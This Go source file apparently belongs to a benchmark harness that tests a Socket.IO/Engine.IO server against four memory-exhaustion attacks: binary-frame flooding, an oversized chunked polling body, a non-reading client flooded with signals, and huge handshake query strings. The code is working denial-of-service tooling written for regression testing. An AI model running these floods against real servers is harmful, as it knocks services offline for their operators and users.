package bench

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"time"

	"github.com/gorilla/websocket"
)

// The attacks of issue 9 on what the transports buffer for a connection:
// frames, polling bodies, writes to a client that does not read, and the
// handshake's URL.

// rawConn is a websocket that has done the Engine.IO and Socket.IO
// handshakes and that nobody reads unless the attack does.
func rawConn(ctx context.Context, t Target, query string) (*Client, error) {
	u, err := url.Parse(t.URL)
	if err != nil {
		return nil, fmt.Errorf("parse %q: %w", t.URL, err)
	}
	u.Scheme, u.Path, u.RawQuery = "ws", "/socket.io/", "EIO=4&transport=websocket"+query
	d := websocket.Dialer{HandshakeTimeout: 10 * time.Second, ReadBufferSize: 2048, WriteBufferSize: 64 << 10}
	var hdr http.Header
	if t.Origin != "" {
		hdr = http.Header{"Origin": []string{t.Origin}}
	}
	conn, resp, err := d.DialContext(ctx, u.String(), hdr)
	if resp != nil && resp.Body != nil {
		_ = resp.Body.Close()
	}
	if err != nil {
		return nil, fmt.Errorf("dial: %w", err)
	}
	c := &Client{conn: conn, acks: map[uint64]func(json.RawMessage, bool){}, done: make(chan struct{})}
	if err := c.handshake(ctx, 5*time.Second, []byte("40")); err != nil {
		_ = conn.Close()
		return nil, err
	}
	return c, nil
}

// attackBinary: a binary event announcing an attachment, then 2,000
// binary frames of 47 KB (the library buffered them all, waiting for a
// million).
func attackBinary(ctx context.Context, t Target, o AbuseOptions, extra map[string]float64) error {
	c, err := rawConn(ctx, t, "")
	if err != nil {
		return err
	}
	defer c.conn.Close()
	if err := c.write([]byte(`451000000-["x",{"_placeholder":true,"num":0}]`)); err != nil {
		return fmt.Errorf("binary: %w", err)
	}
	frame := make([]byte, 47<<10)
	sent := 0
	_ = c.conn.SetWriteDeadline(time.Now().Add(30 * time.Second))
	for range o.n(2000) {
		if ctx.Err() != nil || c.conn.WriteMessage(websocket.BinaryMessage, frame) != nil {
			break
		}
		sent++
	}
	extra["frames_sent"] = float64(sent)
	extra["closed"] = b2f(closedSoon(c.conn))
	return nil
}

// closedSoon reports whether the server has closed conn (reading up to 3 s).
func closedSoon(conn *websocket.Conn) bool {
	_ = conn.SetReadDeadline(time.Now().Add(3 * time.Second))
	for {
		if _, _, err := conn.ReadMessage(); err != nil {
			var ne net.Error
			return !(errors.As(err, &ne) && ne.Timeout())
		}
	}
}

// attackChunkedPost: a polling POST whose chunked body is 150 MB (the
// engine checked only Content-Length).
func attackChunkedPost(ctx context.Context, t Target, o AbuseOptions, extra map[string]float64) error {
	sid, err := pollingSession(ctx, t)
	if err != nil {
		return err
	}
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp", strings.TrimPrefix(t.URL, "http://"))
	if err != nil {
		return fmt.Errorf("chunked post: %w", err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(60 * time.Second))
	w := bufio.NewWriterSize(conn, 64<<10)
	fmt.Fprintf(w, "POST /socket.io/?EIO=4&transport=polling&sid=%s HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain;charset=UTF-8\r\nTransfer-Encoding: chunked\r\n\r\n", sid)
	chunk := strings.Repeat("x", 1<<20)
	total := o.n(150)
	sentMB := 0
	// The reader: the server's answer, if any, while the body goes out.
	status := make(chan string, 1)
	go func() {
		line, _ := bufio.NewReader(conn).ReadString('\n')
		status <- strings.TrimSpace(line)
	}()
	for i := range total {
		if i == 0 {
			fmt.Fprintf(w, "1\r\n4\r\n")
		}
		fmt.Fprintf(w, "%x\r\n%s\r\n", len(chunk), chunk)
		if w.Flush() != nil || ctx.Err() != nil {
			break
		}
		sentMB++
	}
	_, _ = fmt.Fprintf(w, "0\r\n\r\n")
	_ = w.Flush()
	extra["mb_sent"] = float64(sentMB)
	select {
	case s := <-status:
		if code, ok := httpStatus(s); ok {
			extra["status"] = float64(code)
		}
	case <-time.After(5 * time.Second):
	}
	return nil
}

func httpStatus(line string) (int, bool) {
	f := strings.Fields(line)
	if len(f) < 2 {
		return 0, false
	}
	code, err := strconv.Atoi(f[1])
	return code, err == nil
}

// pollingSession opens an Engine.IO polling session; it returns its sid.
func pollingSession(ctx context.Context, t Target) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, t.URL+"/socket.io/?EIO=4&transport=polling", nil)
	if err != nil {
		return "", err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return "", fmt.Errorf("polling handshake: %w", err)
	}
	defer resp.Body.Close()
	var b strings.Builder
	_, _ = bufio.NewReader(resp.Body).WriteTo(&b)
	var op openPacket
	if len(b.String()) < 2 || json.Unmarshal([]byte(b.String()[1:]), &op) != nil {
		return "", fmt.Errorf("polling handshake: %d %q", resp.StatusCode, b.String())
	}
	return op.SID, nil
}

// attackSlowReader: a client that never reads is in a call; its partner
// sends it 500 signals a second of 32 KB (they piled up at 21 MB/s). (Its
// pongs nobody asked for, which kept it alive, close it at once now: the
// contract tests check that; here it would only end the attack early.)
func attackSlowReader(ctx context.Context, t Target, o AbuseOptions, extra map[string]float64) error {
	sink, err := rawConn(ctx, t, "")
	if err != nil {
		return err
	}
	defer sink.conn.Close()
	if err := sink.write([]byte(`421["join-queue",{"name":"sink"}]`)); err != nil {
		return fmt.Errorf("slow reader: %w", err)
	}
	if err := readUntil(sink.conn, "431[", 5*time.Second); err != nil {
		return fmt.Errorf("slow reader: join: %w", err)
	}
	matched := make(chan struct{}, 1)
	flood, err := Dial(ctx, t.URL, DialOptions{Origin: t.Origin, Handler: func(_ *Client, ev Event) {
		if ev.Name == "matched" {
			select {
			case matched <- struct{}{}:
			default:
			}
		}
	}})
	if err != nil {
		return fmt.Errorf("slow reader: %w", err)
	}
	defer flood.Close()
	if err := flood.Emit("join-queue", map[string]string{"name": "flood"}); err != nil {
		return fmt.Errorf("slow reader: %w", err)
	}
	select {
	case <-matched:
	case <-time.After(5 * time.Second):
		return errors.New("slow reader: no match")
	}
	// From here on the sink reads nothing.
	data := strings.Repeat("x", 32000)
	tick := time.NewTicker(2 * time.Millisecond) // 500 a second
	defer tick.Stop()
	end := time.Now().Add(time.Duration(float64(6*time.Second) * o.Scale))
	sent := 0
	for time.Now().Before(end) && ctx.Err() == nil {
		select {
		case <-tick.C:
			if flood.Emit("signal", map[string]string{"to": sink.SID, "data": data}) != nil {
				end = time.Now()
			}
			sent++
		case <-flood.Done():
			end = time.Now()
		}
	}
	extra["signals_sent"] = float64(sent)
	return nil
}

// readUntil reads conn until a message starting with prefix arrives.
func readUntil(conn *websocket.Conn, prefix string, wait time.Duration) error {
	_ = conn.SetReadDeadline(time.Now().Add(wait))
	defer func() { _ = conn.SetReadDeadline(time.Time{}) }()
	for {
		_, msg, err := conn.ReadMessage()
		if err != nil {
			return err
		}
		if strings.HasPrefix(string(msg), prefix) {
			return nil
		}
	}
}

// attackHandshakeURL: 50 websockets whose handshake carries a 900 KB query
// (the library kept it for the connection's life).
func attackHandshakeURL(ctx context.Context, t Target, o AbuseOptions, extra map[string]float64) error {
	pad := "&pad=" + strings.Repeat("a", 900<<10)
	var conns []*Client
	defer func() {
		for _, c := range conns {
			_ = c.conn.Close()
		}
	}()
	refused := 0
	for range o.n(50) {
		c, err := rawConn(ctx, t, pad)
		if err != nil {
			refused++
			continue
		}
		conns = append(conns, c)
	}
	extra["refused"] = float64(refused)
	extra["held"] = float64(len(conns))
	// Held a moment, as an attacker would.
	select {
	case <-time.After(time.Second):
	case <-ctx.Done():
	}
	return nil
}
